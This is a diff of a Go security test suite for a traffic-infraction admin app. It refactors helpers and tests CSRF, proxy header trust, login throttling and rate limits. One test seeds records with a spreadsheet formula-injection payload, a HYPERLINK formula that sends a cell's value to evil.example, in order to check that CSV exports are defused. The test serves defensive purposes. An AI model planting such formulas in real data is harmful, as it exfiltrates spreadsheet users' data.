@@ -17,6 +17,7 @@ import (
 	"golang.org/x/crypto/bcrypt"
 
 	"transito/handlers"
+	"transito/handlers/admin"
 	"transito/internal/testenv"
 	"transito/models"
 	"transito/models/rules"
@@ -42,8 +43,8 @@ func newSecFixture(t *testing.T) *secFixture {
 	}
 	e.Login()
 	return &secFixture{Client: e, ids: map[string]string{
-		"personas": itoa64(p.ID), "vehiculos": itoa64(v.ID), "oficiales": itoa64(o.ID),
-		"infracciones": itoa64(inf), "administradores": itoa64(other.ID),
+		"personas": fmt.Sprint(p.ID), "vehiculos": fmt.Sprint(v.ID), "oficiales": fmt.Sprint(o.ID),
+		"infracciones": fmt.Sprint(inf), "administradores": fmt.Sprint(other.ID),
 	}}
 }
 
@@ -82,7 +83,7 @@ func TestEveryStateChangingAdminRouteNeedsCSRF(t *testing.T) {
 		}
 		checked++
 		path := f.concrete(r.Path)
-		for name, token := range map[string]string{"missing": "", "wrong": wrongToken(f.CSRF)} {
+		for name, token := range map[string]string{"missing": "", "wrong": testenv.WrongToken(f.CSRF)} {
 			t.Run(r.Method+" "+r.Path+" "+name, func(t *testing.T) {
 				before := f.auditTotal(t)
 				form := url.Values{"_csrf": {token}, "nombre": {"Cambiado"}, "email": {"cambiado@example.com"},
@@ -273,7 +274,7 @@ func TestForwardedProtoBelievedOnlyFromATrustedProxy(t *testing.T) {
 				t.Fatal(err)
 			}
 			for _, c := range resp.Cookies() {
-				if c.Name == handlers.SessionCookie && c.Secure != tc.secure {
+				if c.Name == admin.SessionCookie && c.Secure != tc.secure {
 					t.Errorf("Secure = %v, want %v", c.Secure, tc.secure)
 				}
 			}
@@ -307,7 +308,7 @@ func TestLoginThrottleSharedByTheSpellings(t *testing.T) {
 		if i%2 == 1 {
 			path += "/"
 		}
-		resp, _ := e.Post(path, url.Values{"usuario": {"admin"}, "clave": {"mala"}}, "X-Forwarded-For", "198.51.100."+itoa64(int64(i)))
+		resp, _ := e.Post(path, url.Values{"usuario": {"admin"}, "clave": {"mala"}}, "X-Forwarded-For", "198.51.100."+fmt.Sprint(int64(i)))
 		testenv.WantStatus(t, resp, http.StatusUnauthorized)
 	}
 	for _, path := range []string{"/admin/login/", "/admin/login", "/ADMIN/login"} {
@@ -326,13 +327,13 @@ func TestLookupRateLimitHoldsAcrossSpellings(t *testing.T) {
 	spellings := []string{"/generar_informe", "/generar_informe/", "/api/v1/informes", "/api/v1/informes/", "/consulta", "/consulta/", "/GENERAR_INFORME"}
 	env := testenv.API(t, handlers.Config{RateLimit: len(spellings)})
 	for i, p := range spellings {
-		resp, _ := env.Send(t, "GET", p+"?email=ana@example.com", "", "", "X-Forwarded-For", "10.0.0."+itoa64(int64(i)))
+		resp, _ := env.Send(t, "GET", p+"?email=ana@example.com", "", "", "X-Forwarded-For", "10.0.0."+fmt.Sprint(int64(i)))
 		if resp.StatusCode != 200 {
 			t.Fatalf("%s: %d, want 200 within the budget", p, resp.StatusCode)
 		}
 	}
 	for i, p := range spellings {
-		resp, _ := env.Send(t, "GET", p+"?email=nadie"+itoa64(int64(i))+"@example.com", "", "", "X-Forwarded-For", "192.0.2."+itoa64(int64(i)))
+		resp, _ := env.Send(t, "GET", p+"?email=nadie"+fmt.Sprint(int64(i))+"@example.com", "", "", "X-Forwarded-For", "192.0.2."+fmt.Sprint(int64(i)))
 		if resp.StatusCode != 429 || resp.Header.Get("Retry-After") == "" {
 			t.Errorf("%s past the budget: %d, want 429 with Retry-After", p, resp.StatusCode)
 		}
@@ -381,15 +382,15 @@ func TestCSVExportsDefuseFormulas(t *testing.T) {
 	ctx := context.Background()
 	formulas := []string{`=HYPERLINK("http://evil.example/?x="&A1,"ver")`, "+1+1", "-2+3", "@SUM(1,2)"}
 	for i, f := range formulas {
-		p, err := e.Store.CreatePerson(ctx, rules.PersonInput{Name: f, Email: "f" + itoa64(int64(i)) + "@example.com"}, testenv.Actor)
+		p, err := e.Store.CreatePerson(ctx, rules.PersonInput{Name: f, Email: "f" + fmt.Sprint(int64(i)) + "@example.com"}, testenv.Actor)
 		if err != nil {
 			t.Fatal(err)
 		}
-		plate := "CSV" + itoa64(int64(i))
+		plate := "CSV" + fmt.Sprint(int64(i))
 		if _, err := e.Store.CreateVehicle(ctx, rules.VehicleInput{Plate: plate, Brand: f[:min(len(f), 60)], Color: f[:min(len(f), 60)], PersonID: p.ID}, testenv.Actor); err != nil {
 			t.Fatal(err)
 		}
-		badge := "F" + itoa64(int64(i))
+		badge := "F" + fmt.Sprint(int64(i))
 		if _, err := e.Store.CreateOfficer(ctx, rules.OfficerInput{Name: f, Badge: badge, Active: true}, testenv.Actor); err != nil {
 			t.Fatal(err)
 		}
@@ -414,13 +415,4 @@ func TestCSVExportsDefuseFormulas(t *testing.T) {
 			}
 		}
 	}
-}
-
-// wrongToken is a token of the same shape that differs from tok (a fixed
-// replacement of the first character would equal tok one time in 64).
-func wrongToken(tok string) string {
-	if strings.HasPrefix(tok, "x") {
-		return "y" + tok[1:]
-	}
-	return "x" + tok[1:]
 }
